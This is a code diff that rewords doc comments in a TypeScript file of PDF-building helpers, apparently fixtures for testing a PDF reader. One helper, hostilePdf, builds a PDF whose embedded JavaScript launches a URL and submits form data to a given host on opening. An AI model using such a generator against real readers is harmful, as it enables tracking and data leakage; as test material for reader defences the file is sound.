@@ -27,7 +27,7 @@ const padded = (password: string) =>
   Buffer.concat([Buffer.from(password, 'latin1'), padding]).subarray(0, 32);
 const md5 = (...pieces: Buffer[]) => createHash('md5').update(Buffer.concat(pieces)).digest();
 
-/** RC4, as the oldest readers know it. */
+/** Encrypts with RC4, as the oldest readers know it. */
 function rc4(key: Buffer, data: Buffer): Buffer {
   const state = Uint8Array.from({ length: 256 }, (_, index) => index);
   const swap = (a: number, b: number) => {
@@ -66,7 +66,9 @@ export function lockedPdf(words: string, password: string): Buffer {
   return assembled(objects, `/Encrypt 6 0 R /ID [<${hex}> <${hex}>]`);
 }
 
-/** A page of words in a script that needs a map of its letters, which lies beside the reader and not in the file. */
+/**
+ * Makes a page of words in a script that needs a map of its letters, which lies beside the reader and not in the file.
+ */
 export function japanesePdf(words: string): Buffer {
   const hex = Buffer.from(words, 'utf16le').swap16().toString('hex');
   const content = `BT /F1 24 Tf 72 720 Td <${hex}> Tj ET`;
@@ -96,7 +98,7 @@ export function assembled(objects: string[], more = ''): Buffer {
   return Buffer.from(text + table + end, 'latin1');
 }
 
-/** A PDF that asks a reader to run, to call, to open and to send as soon as it is opened. */
+/** Makes a PDF that asks a reader to run, to call, to open and to send as soon as it is opened. */
 export function hostilePdf(host: string): Buffer {
   const js = `<< /S /JavaScript /JS (app.launchURL\\('${host}/js'\\); this.submitForm\\('${host}/form'\\);) >>`;
   const actions = [
